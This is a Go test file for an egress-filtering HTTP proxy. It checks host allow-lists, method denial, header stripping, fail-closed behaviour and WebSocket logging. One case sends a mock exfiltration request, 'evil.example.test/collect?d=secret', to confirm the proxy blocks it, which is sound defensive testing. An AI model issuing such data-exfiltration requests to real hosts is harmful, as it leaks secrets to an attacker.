package proxy

import (
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/trapline/trapline/agentkit/policy"
)

// world is two upstreams behind fake names: the portal and a canary standing for the outside.
type world struct {
	portal, canary *upstream
	hosts          map[string]string
}

func newWorld(t *testing.T) world {
	t.Helper()
	w := world{portal: newUpstream(t, "portal", false), canary: newUpstream(t, "canary", false)}
	w.hosts = map[string]string{
		"portale.interno.test":      w.portal.addr(),
		"portale.interno.test:8080": w.portal.addr(),
		"evil.example.test":         w.canary.addr(),
	}
	return w
}

func TestPlainHTTP(t *testing.T) {
	w := newWorld(t)
	rules := newFakeRules("portale.interno.test", "cdn.allowed.test")
	rules.denyMethods["POST"] = true
	p := startProxy(t, Config{Rules: rules, Hosts: w.hosts})
	client := proxiedClient(t, p)

	cases := []struct {
		name       string
		method     string
		url        string
		wantStatus int
		wantBody   string // substring
		wantRule   policy.Rule
		wantHost   string // as logged
		wantPortal int    // hits on the portal after this case
	}{
		{"allowed GET reaches upstream", "GET", "http://portale.interno.test/pratiche?page=2", 200, "hello from portal", "allowed", "portale.interno.test", 1},
		{"host is normalised", "GET", "http://PORTALE.Interno.Test./pratiche", 200, "hello from portal", "allowed", "portale.interno.test", 2},
		{"explicit port key", "GET", "http://portale.interno.test:8080/x", 200, "hello from portal", "allowed", "portale.interno.test:8080", 3},
		{"unmapped port of a mapped host", "GET", "http://portale.interno.test:9999/x", 403, "denied by rule unmapped_host", "unmapped_host", "portale.interno.test:9999", 3},
		{"denied host never reaches the canary", "GET", "http://evil.example.test/collect?d=secret", 403, "trapline proxy: denied by rule host_not_allowed: host evil.example.test is not allowed\n", "host_not_allowed", "evil.example.test", 3},
		{"allowed but unmapped host", "GET", "http://cdn.allowed.test/lib.js", 403, "denied by rule unmapped_host", "unmapped_host", "cdn.allowed.test", 3},
		{"POST denied by rules", "POST", "http://portale.interno.test/pratiche/1/stato", 403, "denied by rule write_not_allowed", "write_not_allowed", "portale.interno.test", 3},
	}
	for i, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			req := newRequest(t, tc.method, tc.url, strings.NewReader("x=1"))
			resp, body := send(t, client, req)
			if resp.StatusCode != tc.wantStatus || !strings.Contains(string(body), tc.wantBody) {
				t.Errorf("got %d %q, want %d containing %q", resp.StatusCode, body, tc.wantStatus, tc.wantBody)
			}
			if tc.wantStatus == http.StatusForbidden && resp.Header.Get(RuleHeader) != string(tc.wantRule) {
				t.Errorf("%s header = %q, want %q", RuleHeader, resp.Header.Get(RuleHeader), tc.wantRule)
			}
			if n := len(w.portal.received()); n != tc.wantPortal {
				t.Errorf("portal received %d requests, want %d", n, tc.wantPortal)
			}
			ds := p.Decisions()
			if len(ds) != i+1 {
				t.Fatalf("got %d decisions, want %d", len(ds), i+1)
			}
			d := ds[i]
			wantVerdict := Deny
			if tc.wantStatus == http.StatusOK {
				wantVerdict = Allow
			}
			if d.Choice != wantVerdict || d.Rule != tc.wantRule || d.Host != tc.wantHost || d.Method != tc.method || d.Scheme != "http" {
				t.Errorf("decision = %+v, want %s/%s host %s method %s scheme http", d, wantVerdict, tc.wantRule, tc.wantHost, tc.method)
			}
		})
	}
	if hits := w.canary.received(); len(hits) != 0 {
		t.Errorf("canary received %d requests, want none: %+v", len(hits), hits)
	}
	if got := w.portal.received(); len(got) > 0 && (got[0].Path != "/pratiche" || got[0].Host != "portale.interno.test") {
		t.Errorf("portal saw %+v, want GET portale.interno.test/pratiche", got[0])
	}
}

func TestNavigationFromAccept(t *testing.T) {
	w := newWorld(t)
	rules := newFakeRules("portale.interno.test")
	p := startProxy(t, Config{Rules: rules, Hosts: w.hosts})
	client := proxiedClient(t, p)

	cases := []struct {
		accept string
		want   bool
	}{
		{"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", true},
		{"TEXT/HTML", true},
		{"image/avif,image/webp,*/*", false},
		{"", false},
	}
	for i, tc := range cases {
		req := newRequest(t, "GET", "http://portale.interno.test/p", nil)
		if tc.accept != "" {
			req.Header.Set("Accept", tc.accept)
		}
		send(t, client, req)
		seen := rules.requests()
		if len(seen) != i+1 {
			t.Fatalf("rules saw %d requests, want %d", len(seen), i+1)
		}
		if got := seen[i]; got.Navigation != tc.want || got.URL != "http://portale.interno.test/p" || got.Method != "GET" {
			t.Errorf("Accept %q: rules saw %+v, want Navigation=%v", tc.accept, got, tc.want)
		}
	}
}

func TestHopByHopHeadersStripped(t *testing.T) {
	w := newWorld(t)
	p := startProxy(t, Config{Rules: newFakeRules("portale.interno.test"), Hosts: w.hosts})
	client := proxiedClient(t, p)

	req := newRequest(t, "GET", "http://portale.interno.test/h", nil)
	req.Header.Set("Proxy-Authorization", "Basic c2VjcmV0")
	req.Header.Set("Proxy-Trapline-Token", "secret")
	req.Header.Set("Connection", "X-Hop")
	req.Header.Set("X-Hop", "per-connection")
	req.Header.Set("Keep-Alive", "timeout=5")
	req.Header.Set("X-Keep", "end-to-end")
	send(t, client, req)
	hits := w.portal.received()
	if len(hits) != 1 {
		t.Fatalf("portal received %d requests, want 1", len(hits))
	}
	for _, name := range []string{"Proxy-Authorization", "Proxy-Trapline-Token", "X-Hop", "Keep-Alive"} {
		if v := hits[0].Header.Get(name); v != "" {
			t.Errorf("upstream saw %s: %q, want it stripped", name, v)
		}
	}
	if v := hits[0].Header.Get("X-Keep"); v != "end-to-end" {
		t.Errorf("upstream saw X-Keep %q, want it kept", v)
	}
}

func TestDenyByDefault(t *testing.T) {
	w := newWorld(t)
	cases := []struct {
		name     string
		rules    Rules
		wantRule policy.Rule
	}{
		{"nil rules deny everything", nil, RuleDefaultDeny},
		{"panicking rules fail closed", panicRules{}, RuleRulesPanic},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			p := startProxy(t, Config{Rules: tc.rules, Hosts: w.hosts})
			client := proxiedClient(t, p)
			for _, u := range []string{"http://portale.interno.test/", "http://update.googleapis.com/service/update2"} {
				resp, err := client.Get(u)
				if err != nil {
					t.Fatalf("GET %s: %v", u, err)
				}
				body, _ := io.ReadAll(resp.Body)
				_ = resp.Body.Close()
				if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(body), "denied by rule "+string(tc.wantRule)) {
					t.Errorf("GET %s: got %d %q, want 403 naming %s", u, resp.StatusCode, body, tc.wantRule)
				}
			}
			for _, d := range p.Decisions() {
				if d.Choice != Deny || d.Rule != tc.wantRule {
					t.Errorf("decision %+v, want deny %s", d, tc.wantRule)
				}
			}
		})
	}
	if n := len(w.portal.received()); n != 0 {
		t.Errorf("portal received %d requests, want none", n)
	}
}

func TestNonProxyRequest(t *testing.T) {
	p := startProxy(t, Config{Rules: newFakeRules("portale.interno.test")})
	tr := &http.Transport{Proxy: nil}
	defer tr.CloseIdleConnections()
	resp, err := (&http.Client{Transport: tr}).Get(p.URL() + "/pratiche")
	if err != nil {
		t.Fatalf("GET: %v", err)
	}
	body, _ := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest || !strings.Contains(string(body), "denied by rule not_a_proxy_request") {
		t.Errorf("got %d %q, want 400 naming not_a_proxy_request", resp.StatusCode, body)
	}
	ds := p.Decisions()
	if len(ds) != 1 || ds[0].Rule != RuleNotAProxyRequest || ds[0].Choice != Deny || ds[0].Path != "/pratiche" || ds[0].Host != p.Addr() {
		t.Errorf("decisions = %+v, want one deny not_a_proxy_request for %s/pratiche", ds, p.Addr())
	}
}

func TestWebSocketUpgradeLoggedAsWS(t *testing.T) {
	p := startProxy(t, Config{})
	client := proxiedClient(t, p)
	req := newRequest(t, "GET", "http://evil.example.test/socket", nil)
	req.Header.Set("Connection", "Upgrade")
	req.Header.Set("Upgrade", "websocket")
	resp, _ := send(t, client, req)
	ds := p.Decisions()
	if resp.StatusCode != http.StatusForbidden || len(ds) != 1 || ds[0].Scheme != "ws" || ds[0].Host != "evil.example.test" {
		t.Errorf("got %d and decisions %+v, want 403 and one ws decision for evil.example.test", resp.StatusCode, ds)
	}
}
